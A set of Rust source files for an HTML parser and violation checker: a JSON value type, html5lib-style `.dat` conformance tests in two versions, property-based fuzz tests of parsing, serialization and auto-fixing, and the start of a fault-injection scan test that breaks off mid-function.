/// 64-bit hashes; an f64-only model would corrupt them on save/load).
#[derive(Debug, Clone, Copy)]
pub enum Number {
    U(u64),
    I(i64),
    F(f64),
}

/// Value-based equality: `U(1) == I(1)` (a serializer may pick either
/// integer representation), while floats only equal other floats.
impl PartialEq for Number {
    fn eq(&self, other: &Self) -> bool {
        match (*self, *other) {
            (Number::U(a), Number::U(b)) => a == b,
            (Number::I(a), Number::I(b)) => a == b,
            (Number::U(a), Number::I(b)) | (Number::I(b), Number::U(a)) => b >= 0 && a == b as u64,
            (Number::F(a), Number::F(b)) => a == b,
            _ => false,
        }
    }
}

impl Number {
    pub fn as_f64(self) -> f64 {
        match self {
            Number::U(n) => n as f64,
            Number::I(n) => n as f64,
            Number::F(f) => f,
        }
    }

    /// Canonical JSON rendering. Floats use Rust's shortest round-trip
    /// formatting, which always includes a fractional part or exponent.
    pub fn render(self) -> String {
        match self {
            Number::U(n) => n.to_string(),
            Number::I(n) => n.to_string(),
            Number::F(f) => {
                if f.is_finite() {
                    format!("{f:?}")
                } else {
                    "null".to_owned()
                }
            }
        }
    }

    /// Parse a JSON number literal.
    pub fn parse(s: &str) -> Option<Number> {
        if !s.contains(['.', 'e', 'E']) {
            if let Some(rest) = s.strip_prefix('-') {
                rest.parse::<u64>().ok()?;
                return s.parse::<i64>().ok().map(Number::I);
            }
            if let Ok(u) = s.parse::<u64>() {
                return Some(Number::U(u));
            }
        }
        s.parse::<f64>().ok().filter(|f| f.is_finite()).map(Number::F)
    }
}

/// A JSON value tree.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    Null,
    Bool(bool),
    Number(Number),
    String(String),
    Array(Vec<Value>),
    Object(Map<String, Value>),
}

impl Default for Value {
    fn default() -> Self {
        Value::Null
    }
}

impl Value {
    /// Short kind name for error messages.
    pub fn kind(&self) -> &'static str {
        match self {
            Value::Null => "null",
            Value::Bool(_) => "bool",
            Value::Number(_) => "number",
            Value::String(_) => "string",
            Value::Array(_) => "array",
            Value::Object(_) => "object",
        }
    }

    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    pub fn get(&self, key: &str) -> Option<&Value> {
        match self {
            Value::Object(m) => m.get(key),
            _ => None,
        }
    }

    pub fn as_object(&self) -> Option<&Map<String, Value>> {
        match self {
            Value::Object(m) => Some(m),
            _ => None,
        }
    }

    pub fn as_array(&self) -> Option<&Vec<Value>> {
        match self {
            Value::Array(a) => Some(a),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::String(s) => Some(s),
            _ => None,
        }
    }

    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }

    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Number(n) => Some(n.as_f64()),
            _ => None,
        }
    }

    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Value::Number(Number::U(n)) => Some(*n),
            Value::Number(Number::I(n)) => u64::try_from(*n).ok(),
            Value::Number(Number::F(f)) if f.fract() == 0.0 && *f >= 0.0 => Some(*f as u64),
            _ => None,
        }
    }

    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::Number(Number::I(n)) => Some(*n),
            Value::Number(Number::U(n)) => i64::try_from(*n).ok(),
            Value::Number(Number::F(f)) if f.fract() == 0.0 => Some(*f as i64),
            _ => None,
        }
    }

    pub(crate) fn as_u64_strict(&self) -> Result<u64, crate::Error> {
        self.as_u64()
            .ok_or_else(|| crate::Error(format!("expected unsigned integer, got {}", self.kind())))
    }

    pub(crate) fn as_i64_strict(&self) -> Result<i64, crate::Error> {
        self.as_i64().ok_or_else(|| crate::Error(format!("expected integer, got {}", self.kind())))
    }
}

/// `value["key"]` — returns `Null` for missing keys, as serde_json does.
impl std::ops::Index<&str> for Value {
    type Output = Value;
    fn index(&self, key: &str) -> &Value {
        static NULL: Value = Value::Null;
        self.get(key).unwrap_or(&NULL)
    }
}

/// `value[i]` on arrays.
impl std::ops::Index<usize> for Value {
    type Output = Value;
    fn index(&self, i: usize) -> &Value {
        static NULL: Value = Value::Null;
        match self {
            Value::Array(a) => a.get(i).unwrap_or(&NULL),
            _ => &NULL,
        }
    }
}
