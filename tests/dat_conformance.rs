//! Data-driven tree-construction conformance in the html5lib-tests `.dat`
//! format: `#data` blocks hold the input, `#document` blocks the expected
//! tree in the suite's indented notation (`| <tag>`, `|   attr="v"`,
//! `|   "text"`, foreign elements as `<svg name>`/`<math name>`).
//!
//! Fixtures live in `tests/fixtures/*.dat` — add cases there without
//! touching code.

use html_violations::spec_html::{self, Namespace, NodeData, NodeId};

/// One parsed test case.
struct DatCase {
    line: usize,
    data: String,
    expected: String,
}

fn parse_dat(content: &str) -> Vec<DatCase> {
    let mut cases = Vec::new();
    let mut mode = "";
    let mut data = String::new();
    let mut expected = String::new();
    let mut case_line = 0usize;

    let flush =
        |cases: &mut Vec<DatCase>, data: &mut String, expected: &mut String, line: usize| {
            if !data.is_empty() || !expected.is_empty() {
                // The format's final newline in #data is an artifact of the
                // block syntax, not input.
                let d = data.strip_suffix('\n').unwrap_or(data).to_owned();
                cases.push(DatCase { line, data: d, expected: std::mem::take(expected) });
                data.clear();
            }
        };

    for (i, line) in content.lines().enumerate() {
        match line {
            "#data" => {
                flush(&mut cases, &mut data, &mut expected, case_line);
                case_line = i + 1;
                mode = "data";
            }
            "#document" => mode = "document",
            _ => match mode {
                "data" => {
                    data.push_str(line);
                    data.push('\n');
                }
                "document" if !line.is_empty() => {
                    expected.push_str(line);
                    expected.push('\n');
                }
                _ => {}
            },
        }
    }
    flush(&mut cases, &mut data, &mut expected, case_line);
    cases
}

/// Render a DOM in the html5lib-tests notation.
fn render_tree(dom: &spec_html::Dom) -> String {
    let mut out = String::new();
    for child in dom.children(dom.root()) {
        render_node(dom, child, 0, &mut out);
    }
    out
}

fn render_node(dom: &spec_html::Dom, id: NodeId, depth: usize, out: &mut String) {
    let indent = "  ".repeat(depth);
    match &dom.node(id).data {
        NodeData::Doctype { name, .. } => {
            out.push_str(&format!("| {indent}<!DOCTYPE {name}>\n"));
        }
        NodeData::Comment(c) => {
            out.push_str(&format!("| {indent}<!-- {c} -->\n"));
        }
        NodeData::Text(t) => {
            out.push_str(&format!("| {indent}\"{t}\"\n"));
        }
        NodeData::Element(e) => {
            let name = match e.ns {
                Namespace::Html => e.name.to_string(),
                Namespace::Svg => format!("svg {}", e.name),
                Namespace::MathMl => format!("math {}", e.name),
            };
            out.push_str(&format!("| {indent}<{name}>\n"));
            // Attributes sorted by name, one per line (suite convention).
            let mut attrs = e.attrs.clone();
            attrs.sort_by(|a, b| a.name.cmp(&b.name));
            for a in attrs {
                out.push_str(&format!("| {indent}  {}=\"{}\"\n", a.name, a.value));
            }
            for child in dom.children(id) {
                render_node(dom, child, depth + 1, out);
            }
        }
        NodeData::Document => {
            for child in dom.children(id) {
                render_node(dom, child, depth, out);
            }
        }
    }
}

#[test]
fn dat_fixtures_conform() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut total = 0usize;
    let mut failures = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("fixtures dir") {
        let path = entry.unwrap().path();
        if path.extension().and_then(|e| e.to_str()) != Some("dat") {
            continue;
        }
        let content = std::fs::read_to_string(&path).unwrap();
        for case in parse_dat(&content) {
            total += 1;
            let out = spec_html::parse_document(&case.data);
            let rendered = render_tree(&out.dom);
            if rendered.trim_end() != case.expected.trim_end() {
                failures.push(format!(
                    "{}:{} input {:?}\n--- expected ---\n{}--- got ---\n{}",
                    path.file_name().unwrap().to_string_lossy(),
                    case.line,
                    case.data,
                    case.expected,
                    rendered
                ));
            }
        }
    }
    assert!(total >= 60, "expected a substantive fixture suite, found {total}");
    assert!(
        failures.is_empty(),
        "{} of {total} .dat cases failed:\n\n{}",
        failures.len(),
        failures.join("\n================\n")
    );
}

#[test]
fn dat_parser_handles_multiple_blocks() {
    let cases = parse_dat("#data\n<p>x\n#document\n| <p>\n\n#data\n<b>y\n#document\n| <b>\n");
    assert_eq!(cases.len(), 2);
    assert_eq!(cases[0].data, "<p>x");
    assert_eq!(cases[1].data, "<b>y");
    assert!(cases[0].expected.contains("| <p>"));
}
