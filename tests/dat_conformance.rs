//! Data-driven tree-construction conformance in the html5lib-tests `.dat`
//! format: `#data` blocks hold the input, `#document` blocks the expected
//! tree in the suite's indented notation (`| <tag>`, `|   attr="v"`,
//! `|   "text"`, foreign elements as `<svg name>`/`<math name>`).
//!
//! An optional `#errors` block between `#data` and `#document` asserts
//! the exact violation stream, one entry per line as
//! `<char offset>: <id>`, merged from both reporting channels: tokenizer
//! parse errors under their WHATWG spec names (`12: duplicate-attribute`)
//! and tree-construction recovery events under their stable ids
//! (`0: implicit-html`, `7: foster-parented`). A case without an
//! `#errors` block asserts only the tree (back-compat with the original
//! fixtures); an *empty* block asserts a fully clean parse. To annotate
//! new cases, run the ignored `dat_print_error_annotations` test and
//! hand-review its output against the spec before pasting it in.
//!
//! Fixtures live in `tests/fixtures/*.dat` — add cases there without
//! touching code.

use html_violations::spec_html::{self, Namespace, NodeData, NodeId};

/// One parsed test case.
struct DatCase {
    line: usize,
    data: String,
    expected: String,
    /// `Some` when the case has an `#errors` block (possibly empty: an
    /// empty block asserts the input parses with *no* errors).
    errors: Option<String>,
}

fn parse_dat(content: &str) -> Vec<DatCase> {
    let mut cases = Vec::new();
    let mut mode = "";
    let mut data = String::new();
    let mut expected = String::new();
    let mut errors: Option<String> = None;
    let mut case_line = 0usize;

    let flush = |cases: &mut Vec<DatCase>,
                 data: &mut String,
                 expected: &mut String,
                 errors: &mut Option<String>,
                 line: usize| {
        if !data.is_empty() || !expected.is_empty() {
            // The format's final newline in #data is an artifact of the
            // block syntax, not input.
            let d = data.strip_suffix('\n').unwrap_or(data).to_owned();
            cases.push(DatCase {
                line,
                data: d,
                expected: std::mem::take(expected),
                errors: errors.take(),
            });
            data.clear();
        }
    };

    for (i, line) in content.lines().enumerate() {
        match line {
            "#data" => {
                flush(&mut cases, &mut data, &mut expected, &mut errors, case_line);
                case_line = i + 1;
                mode = "data";
            }
            "#errors" => {
                errors = Some(String::new());
                mode = "errors";
            }
            "#document" => mode = "document",
            _ => match mode {
                "data" => {
                    data.push_str(line);
                    data.push('\n');
                }
                "errors" if !line.is_empty() => {
                    let block = errors.as_mut().expect("entered #errors mode");
                    block.push_str(line);
                    block.push('\n');
                }
                "document" if !line.is_empty() => {
                    expected.push_str(line);
                    expected.push('\n');
                }
                _ => {}
            },
        }
    }
    flush(&mut cases, &mut data, &mut expected, &mut errors, case_line);
    cases
}

/// Render a parse's full violation stream in the `#errors` block
/// notation: tokenizer/preprocess parse errors (spec ids) merged with
/// tree-construction recovery events (their stable ids), sorted by
/// character offset; at equal offsets tokenizer errors sort first.
fn render_errors(out: &spec_html::ParseOutput) -> String {
    let mut lines: Vec<(usize, String)> = Vec::new();
    for e in &out.errors {
        lines.push((e.offset, format!("{}: {}\n", e.offset, e.code.spec_id())));
    }
    for ev in &out.events {
        lines.push((ev.offset, format!("{}: {}\n", ev.offset, ev.kind.id())));
    }
    lines.sort_by_key(|(off, _)| *off); // stable: preserves stream order at ties
    lines.into_iter().map(|(_, l)| l).collect()
}

/// Render a DOM in the html5lib-tests notation.
fn render_tree(dom: &spec_html::Dom) -> String {
    let mut out = String::new();
    for child in dom.children(dom.root()) {
        render_node(dom, child, 0, &mut out);
    }
    out
}

fn render_node(dom: &spec_html::Dom, id: NodeId, depth: usize, out: &mut String) {
    let indent = "  ".repeat(depth);
    match &dom.node(id).data {
        NodeData::Doctype { name, .. } => {
            out.push_str(&format!("| {indent}<!DOCTYPE {name}>\n"));
        }
        NodeData::Comment(c) => {
            out.push_str(&format!("| {indent}<!-- {c} -->\n"));
        }
        NodeData::Text(t) => {
            out.push_str(&format!("| {indent}\"{t}\"\n"));
        }
        NodeData::Element(e) => {
            let name = match e.ns {
                Namespace::Html => e.name.to_string(),
                Namespace::Svg => format!("svg {}", e.name),
                Namespace::MathMl => format!("math {}", e.name),
            };
            out.push_str(&format!("| {indent}<{name}>\n"));
            // Attributes sorted by name, one per line (suite convention).
            let mut attrs = e.attrs.clone();
            attrs.sort_by(|a, b| a.name.cmp(&b.name));
            for a in attrs {
                out.push_str(&format!("| {indent}  {}=\"{}\"\n", a.name, a.value));
            }
            for child in dom.children(id) {
                render_node(dom, child, depth + 1, out);
            }
        }
        NodeData::Document => {
            for child in dom.children(id) {
                render_node(dom, child, depth, out);
            }
        }
    }
}

#[test]
fn dat_fixtures_conform() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut total = 0usize;
    let mut failures = Vec::new();
    for entry in std::fs::read_dir(&dir).expect("fixtures dir") {
        let path = entry.unwrap().path();
        if path.extension().and_then(|e| e.to_str()) != Some("dat") {
            continue;
        }
        let content = std::fs::read_to_string(&path).unwrap();
        for case in parse_dat(&content) {
            total += 1;
            let out = spec_html::parse_document(&case.data);
            let rendered = render_tree(&out.dom);
            if rendered.trim_end() != case.expected.trim_end() {
                failures.push(format!(
                    "{}:{} input {:?}\n--- expected ---\n{}--- got ---\n{}",
                    path.file_name().unwrap().to_string_lossy(),
                    case.line,
                    case.data,
                    case.expected,
                    rendered
                ));
            }
            if let Some(expected_errors) = &case.errors {
                let got = render_errors(&out);
                if got.trim_end() != expected_errors.trim_end() {
                    failures.push(format!(
                        "{}:{} input {:?}\n--- expected errors ---\n{}--- got errors ---\n{}",
                        path.file_name().unwrap().to_string_lossy(),
                        case.line,
                        case.data,
                        expected_errors,
                        got
                    ));
                }
            }
        }
    }
    assert!(total >= 80, "expected a substantive fixture suite, found {total}");
    assert!(
        failures.is_empty(),
        "{} of {total} .dat cases failed:\n\n{}",
        failures.len(),
        failures.join("\n================\n")
    );
}

/// Enough of the suite must assert its error stream that tokenizer and
/// tree-builder error regressions can't slip through on tree shape alone.
#[test]
fn dat_fixtures_assert_errors() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let mut annotated = 0usize;
    for entry in std::fs::read_dir(&dir).expect("fixtures dir") {
        let path = entry.unwrap().path();
        if path.extension().and_then(|e| e.to_str()) != Some("dat") {
            continue;
        }
        let content = std::fs::read_to_string(&path).unwrap();
        annotated += parse_dat(&content).iter().filter(|c| c.errors.is_some()).count();
    }
    assert!(annotated >= 40, "expected >= 40 error-annotated .dat cases, found {annotated}");
}

/// Annotation helper, not a check: prints every fixture case with the
/// `#errors` block the current parser produces, for hand review against
/// the WHATWG spec before pasting into the fixture. Run with
/// `cargo test -q --test dat_conformance dat_print_error_annotations -- --ignored --nocapture`.
#[test]
#[ignore = "annotation generator; run manually with --ignored --nocapture"]
fn dat_print_error_annotations() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    for entry in std::fs::read_dir(&dir).expect("fixtures dir") {
        let path = entry.unwrap().path();
        if path.extension().and_then(|e| e.to_str()) != Some("dat") {
            continue;
        }
        println!("==== {}", path.display());
        let content = std::fs::read_to_string(&path).unwrap();
        for case in parse_dat(&content) {
            let out = spec_html::parse_document(&case.data);
            println!("#data\n{}\n#errors\n{}#document", case.data, render_errors(&out));
        }
    }
}

#[test]
fn dat_parser_handles_multiple_blocks() {
    let cases = parse_dat("#data\n<p>x\n#document\n| <p>\n\n#data\n<b>y\n#document\n| <b>\n");
    assert_eq!(cases.len(), 2);
    assert_eq!(cases[0].data, "<p>x");
    assert_eq!(cases[1].data, "<b>y");
    assert!(cases[0].expected.contains("| <p>"));
    assert!(cases[0].errors.is_none(), "no #errors block means no assertion");
}

#[test]
fn dat_parser_handles_errors_blocks() {
    let cases = parse_dat(
        "#data\n<p/x>\n#errors\n3: unexpected-solidus-in-tag\n#document\n| <p>\n\n\
         #data\n<p>clean\n#errors\n#document\n| <p>\n",
    );
    assert_eq!(cases.len(), 2);
    assert_eq!(cases[0].errors.as_deref(), Some("3: unexpected-solidus-in-tag\n"));
    // An empty #errors block is an assertion of *zero* errors, distinct
    // from a missing block.
    assert_eq!(cases[1].errors.as_deref(), Some(""));
}
