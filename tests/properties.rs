//! Property-based tests on the cross-crate invariants.
//!
//! These are the load-bearing guarantees: the parser is total (never
//! panics, always terminates), serialization converges, the auto-fixer is
//! sound for automatic kinds, the DOM stays structurally valid on any
//! input, and the corpus is a pure function of its seed.

use html_violations::prelude::*;
use html_violations::spec_html::serializer;
use proptest::prelude::*;

/// HTML-ish soup: fragments that stress tag/attribute/entity handling.
fn html_soup() -> impl Strategy<Value = String> {
    let atom = prop_oneof![
        Just("<".to_owned()),
        Just(">".to_owned()),
        Just("</".to_owned()),
        Just("/>".to_owned()),
        Just("=".to_owned()),
        Just("\"".to_owned()),
        Just("'".to_owned()),
        Just("&".to_owned()),
        Just("&amp;".to_owned()),
        Just("&#x41;".to_owned()),
        Just("<!--".to_owned()),
        Just("-->".to_owned()),
        Just("<!DOCTYPE html>".to_owned()),
        Just("<![CDATA[".to_owned()),
        Just("<div".to_owned()),
        Just("<p>".to_owned()),
        Just("<table>".to_owned()),
        Just("<tr>".to_owned()),
        Just("<td>".to_owned()),
        Just("<select>".to_owned()),
        Just("<option>".to_owned()),
        Just("<textarea>".to_owned()),
        Just("</textarea>".to_owned()),
        Just("<script>".to_owned()),
        Just("</script>".to_owned()),
        Just("<style>".to_owned()),
        Just("<svg>".to_owned()),
        Just("</svg>".to_owned()),
        Just("<math>".to_owned()),
        Just("</math>".to_owned()),
        Just("<mtext>".to_owned()),
        Just("<foreignObject>".to_owned()),
        Just("<desc>".to_owned()),
        Just("<annotation-xml>".to_owned()),
        Just("<annotation-xml encoding=\"text/html\">".to_owned()),
        Just("<template>".to_owned()),
        Just("</template>".to_owned()),
        Just("<b>".to_owned()),
        Just("</b>".to_owned()),
        Just("<i>".to_owned()),
        Just("<a href=".to_owned()),
        Just("<form>".to_owned()),
        Just("<body>".to_owned()),
        Just("<head>".to_owned()),
        Just(" ".to_owned()),
        Just("\n".to_owned()),
        Just("\r\n".to_owned()),
        Just("\0".to_owned()),
        Just("\u{1}".to_owned()),
        Just("\u{c}".to_owned()),
        Just("&#0;".to_owned()),
        Just("&notit;".to_owned()),
        "[a-zA-Z0-9 ]{0,12}".prop_map(|s| s),
    ];
    proptest::collection::vec(atom, 0..40).prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// The parser is total: arbitrary bytes never panic it, and the
    /// resulting DOM always satisfies the structural invariants.
    #[test]
    fn parser_is_total_and_dom_is_valid(input in html_soup()) {
        let out = parse_document(&input);
        out.dom.check_invariants().unwrap();
        // Error offsets stay within the input.
        let len = input.chars().count();
        for e in &out.errors {
            prop_assert!(e.offset <= len, "offset {} beyond input {len}", e.offset);
        }
    }

    /// Arbitrary unicode (not just HTML-ish soup) parses too.
    #[test]
    fn parser_handles_arbitrary_unicode(input in "\\PC*") {
        let out = parse_document(&input);
        out.dom.check_invariants().unwrap();
    }

    /// serialize ∘ parse is a fixpoint after one round: re-parsing the
    /// serialization and serializing again yields the same bytes. (The
    /// first round may mutate — that is mXSS — but it must converge.)
    ///
    /// One documented exception: a script element whose content opens an
    /// HTML-comment-like section (`<!--<script>`) without closing it puts
    /// the tokenizer in the double-escaped state, where the serialized
    /// `</script>` is swallowed on every re-parse — such trees never
    /// round-trip, in browsers either (spec §13.3's warning). Detectable
    /// via the `eof-in-script-html-comment-like-text` error.
    #[test]
    fn serialization_converges(input in html_soup()) {
        let once = serializer::serialize(&parse_document(&input).dom);
        let reparse = parse_document(&once);
        if reparse.has_error(html_violations::spec_html::ErrorCode::EofInScriptHtmlCommentLikeText) {
            return Ok(()); // documented non-round-trippable pathology
        }
        let twice = serializer::serialize(&reparse.dom);
        let thrice = serializer::serialize(&parse_document(&twice).dom);
        prop_assert_eq!(&twice, &thrice, "serialize/parse did not converge from {:?}", input);
    }

    /// The checker battery is total and deterministic.
    #[test]
    fn checkers_are_total_and_deterministic(input in html_soup()) {
        let a = Battery::full().run_str(&input);
        let b = Battery::full().run_str(&input);
        prop_assert_eq!(a.findings, b.findings);
    }

    /// The auto-fixer's output re-checks clean of all *automatically
    /// fixable* kinds, and fixing converges: one extra pass reaches a
    /// fixpoint. (A single pass is not always a fixpoint — the HTML spec
    /// itself notes in §13.3 that serializing a tree with misnested
    /// formatting or foster-parented content "might not return the
    /// original tree structure"; the re-parsed tree is the stable one.)
    #[test]
    fn autofix_resolves_automatic_kinds(input in html_soup()) {
        let outcome = auto_fix(&input);
        for k in &outcome.after {
            prop_assert_eq!(
                k.fixability(),
                html_violations::hv_core::Fixability::Manual,
                "automatic kind {} survived the fixer on {:?}", k.id(), input
            );
        }
        // Same carve-out as serialization_converges: unterminated
        // script-comment content never round-trips.
        if parse_document(&outcome.fixed_html)
            .has_error(html_violations::spec_html::ErrorCode::EofInScriptHtmlCommentLikeText)
        {
            return Ok(());
        }
        let again = auto_fix(&outcome.fixed_html);
        let third = auto_fix(&again.fixed_html);
        prop_assert_eq!(&third.fixed_html, &again.fixed_html, "fixer did not converge");
    }

    /// Text content survives the automatic fix (the fixer must never eat
    /// visible content).
    #[test]
    fn autofix_preserves_text(words in proptest::collection::vec("[a-z]{1,8}", 1..8)) {
        let text = words.join(" ");
        let input = format!("<p id=x id=y>{text}</p><img src=\"a\"alt=\"b\">");
        let outcome = auto_fix(&input);
        let doc = parse_document(&outcome.fixed_html);
        let body = doc.dom.find_html("body").unwrap();
        prop_assert!(doc.dom.text_content(body).contains(&text));
    }

    /// Entity decoding: decode(encode(s)) == s for text content.
    #[test]
    fn text_roundtrip_through_serializer(text in "[a-zA-Z0-9 <>&';]{0,40}") {
        let doc = parse_document(&format!("<body><p>{}</p>", text.replace('<', "&lt;").replace('&', "&amp;x")));
        doc.dom.check_invariants().unwrap();
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// [`Battery::only`] over any subset of the taxonomy reports exactly
    /// the subset-filtered findings of the full battery, on any input —
    /// restricting the rule set is observationally a filter.
    #[test]
    fn battery_only_is_a_filter_of_full(input in html_soup(), mask in 0u32..(1u32 << 20)) {
        let subset: Vec<ViolationKind> = ViolationKind::ALL
            .iter()
            .enumerate()
            .filter(|(i, _)| mask & (1 << i) != 0)
            .map(|(_, &k)| k)
            .collect();
        let full = Battery::full().run_str(&input);
        let expected: Vec<_> =
            full.findings.iter().filter(|f| subset.contains(&f.kind)).cloned().collect();
        let got = Battery::only(&subset).run_str(&input);
        prop_assert_eq!(&got.findings, &expected, "subset {:?} on {:?}", subset, input);
        // The mitigation flags are battery-independent page facts.
        prop_assert_eq!(got.mitigations, full.mitigations);
    }

    /// A reused battery agrees with a fresh one on every page — the
    /// recycled findings buffer leaks no state between pages.
    #[test]
    fn battery_reuse_matches_fresh(pages in proptest::collection::vec(html_soup(), 1..6)) {
        let mut reused = Battery::full();
        for page in &pages {
            let fresh = Battery::full().run_str(page);
            let r = reused.run_str(page);
            prop_assert_eq!(&r.findings, &fresh.findings);
            prop_assert_eq!(r.mitigations, fresh.mitigations);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// Corpus determinism: same seed ⇒ same bytes; independent of
    /// construction order.
    #[test]
    fn corpus_is_a_pure_function_of_seed(seed in 0u64..1000, page in 0usize..5) {
        let a = Archive::new(CorpusConfig { seed, scale: 0.002 });
        let b = Archive::new(CorpusConfig { seed, scale: 0.002 });
        prop_assert_eq!(a.domains().len(), b.domains().len());
        let d = &a.domains()[page % a.domains().len()];
        let d2 = &b.domains()[page % b.domains().len()];
        prop_assert_eq!(&d.name, &d2.name);
        for snap in [Snapshot::ALL[0], Snapshot::ALL[7]] {
            let ca = a.cdx_lookup(d, snap);
            let cb = b.cdx_lookup(d2, snap);
            prop_assert_eq!(ca.is_some(), cb.is_some());
            if let (Some(ca), Some(cb)) = (ca, cb) {
                prop_assert_eq!(ca.pages.len(), cb.pages.len());
                let pa = a.fetch(&ca.pages[page % ca.pages.len()]);
                let pb = b.fetch(&cb.pages[page % cb.pages.len()]);
                prop_assert_eq!(pa.body, pb.body);
            }
        }
    }

    /// Every corpus page parses without DOM corruption and all generated
    /// violations are detectable (no generator/checker drift at any seed).
    #[test]
    fn corpus_pages_are_parseable(seed in 0u64..500) {
        let archive = Archive::new(CorpusConfig { seed, scale: 0.0008 });
        let d = &archive.domains()[0];
        for snap in Snapshot::ALL {
            if let Some(cdx) = archive.cdx_lookup(d, snap) {
                let body = archive.fetch(&cdx.pages[0]);
                if let Ok(text) = std::str::from_utf8(&body.body) {
                    let out = parse_document(text);
                    out.dom.check_invariants().unwrap();
                }
            }
        }
    }
}

mod dom_arena_ops {
    use html_violations::spec_html::dom::{Document, Namespace, NodeData};
    use proptest::prelude::*;

    /// A random structural edit.
    #[derive(Debug, Clone)]
    enum Op {
        Create,
        Append { parent: usize, child: usize },
        InsertBefore { sibling: usize, child: usize },
        Detach { node: usize },
        AppendText { parent: usize },
    }

    fn op_strategy() -> impl Strategy<Value = Op> {
        prop_oneof![
            Just(Op::Create),
            (any::<usize>(), any::<usize>())
                .prop_map(|(parent, child)| Op::Append { parent, child }),
            (any::<usize>(), any::<usize>())
                .prop_map(|(sibling, child)| Op::InsertBefore { sibling, child }),
            any::<usize>().prop_map(|node| Op::Detach { node }),
            any::<usize>().prop_map(|parent| Op::AppendText { parent }),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        /// The arena maintains its structural invariants under arbitrary
        /// valid edit sequences (the exact edits the tree builder performs:
        /// foster parenting is detach+insert_before, adoption agency is
        /// reparenting).
        #[test]
        fn arena_invariants_under_random_ops(ops in proptest::collection::vec(op_strategy(), 1..60)) {
            let mut doc = Document::new();
            let mut ids = vec![doc.root()];
            for op in ops {
                match op {
                    Op::Create => {
                        ids.push(doc.create_element("div", Namespace::Html, Vec::new()));
                    }
                    Op::Append { parent, child } => {
                        let p = ids[parent % ids.len()];
                        let c = ids[child % ids.len()];
                        // Valid only when it cannot create a cycle and the
                        // child is not the document node.
                        if p != c && c != doc.root() && !doc.is_inclusive_ancestor(c, p) {
                            doc.append(p, c);
                        }
                    }
                    Op::InsertBefore { sibling, child } => {
                        let s = ids[sibling % ids.len()];
                        let c = ids[child % ids.len()];
                        if s != c
                            && c != doc.root()
                            && doc.node(s).parent.is_some()
                            && !doc.is_inclusive_ancestor(c, s)
                        {
                            doc.insert_before(s, c);
                        }
                    }
                    Op::Detach { node } => {
                        let n = ids[node % ids.len()];
                        if n != doc.root() {
                            doc.detach(n);
                        }
                    }
                    Op::AppendText { parent } => {
                        let p = ids[parent % ids.len()];
                        if !matches!(doc.node(p).data, NodeData::Text(_)) {
                            doc.append_text(p, "t");
                        }
                    }
                }
                doc.check_invariants().unwrap();
            }
            // Every reachable node's parent chain terminates at the root.
            for id in doc.descendants(doc.root()).collect::<Vec<_>>() {
                let last = doc.ancestors(id).last().expect("reachable node has ancestors");
                prop_assert_eq!(last, doc.root());
            }
        }
    }
}
