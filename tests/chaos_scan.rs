//! Chaos matrix: the scan engine under deterministic fault injection at
//! every combination of fault rate {0, 0.1, 0.5} and thread count {1, 4}.
//!
//! The invariants under test are the ones `hva chaos` enforces:
//! quarantine is a pure function of `(seed, page)` — never of scheduling —
//! so faulted stores are byte-identical across thread counts, and records
//! whose pages saw no faults are byte-identical to a zero-fault run.

use html_violations::hv_corpus::{Archive, CorpusConfig, FaultPlan, Snapshot};
use html_violations::hv_pipeline::{run, ErrorClass, ResultStore};

const RATES: [f64; 3] = [0.0, 0.1, 0.5];
const THREADS: [usize; 2] = [1, 4];
const SEED: u64 = 9;

fn archive() -> Archive {
    Archive::new(CorpusConfig { seed: 41, scale: 0.002 })
}

fn scan_at(archive: &Archive, rate: f64, threads: usize) -> ResultStore {
    let mut opts = run::ScanOptions::new().threads(threads);
    if rate > 0.0 {
        opts = opts.inject_faults(FaultPlan::new(SEED, rate).unwrap());
    }
    run::scan_snapshots(archive, &[Snapshot::ALL[3], Snapshot::ALL[7]], opts)
}

#[test]
fn quarantine_is_identical_across_thread_counts_at_every_rate() {
    let archive = archive();
    for rate in RATES {
        let stores: Vec<ResultStore> =
            THREADS.iter().map(|&t| scan_at(&archive, rate, t)).collect();
        let jsons: Vec<String> = stores.iter().map(|s| serde_json::to_string(s).unwrap()).collect();
        for (i, json) in jsons.iter().enumerate().skip(1) {
            assert_eq!(
                json, &jsons[0],
                "rate {rate}: store at {} threads differs from {} threads",
                THREADS[i], THREADS[0]
            );
        }
        if rate == 0.0 {
            assert!(stores[0].quarantine.is_empty(), "no faults, no quarantine");
        } else {
            assert!(
                !stores[0].quarantine.is_empty(),
                "rate {rate} over two snapshots must quarantine at least one page"
            );
        }
    }
}

#[test]
fn clean_pages_match_the_zero_fault_run() {
    let archive = archive();
    let clean = scan_at(&archive, 0.0, 4);
    let clean_json: std::collections::BTreeMap<_, _> = clean
        .records
        .iter()
        .map(|r| ((r.snapshot, r.domain_id), serde_json::to_string(r).unwrap()))
        .collect();

    // Records hold up to 100 pages, so at the issue's 10%/50% rates almost
    // every record has at least one faulted page. A 0.5% rate rides along to
    // make the fault-free comparison provably non-vacuous.
    for rate in [0.1, 0.5, 0.005] {
        let faulted = scan_at(&archive, rate, 4);
        let mut compared = 0usize;
        for r in faulted.records.iter().filter(|r| r.pages_faulted == 0) {
            compared += 1;
            assert_eq!(
                clean_json.get(&(r.snapshot, r.domain_id)),
                Some(&serde_json::to_string(r).unwrap()),
                "rate {rate}: fault-free record {}@{:?} drifted from the clean run",
                r.domain_id,
                r.snapshot
            );
        }
        if rate < 0.1 {
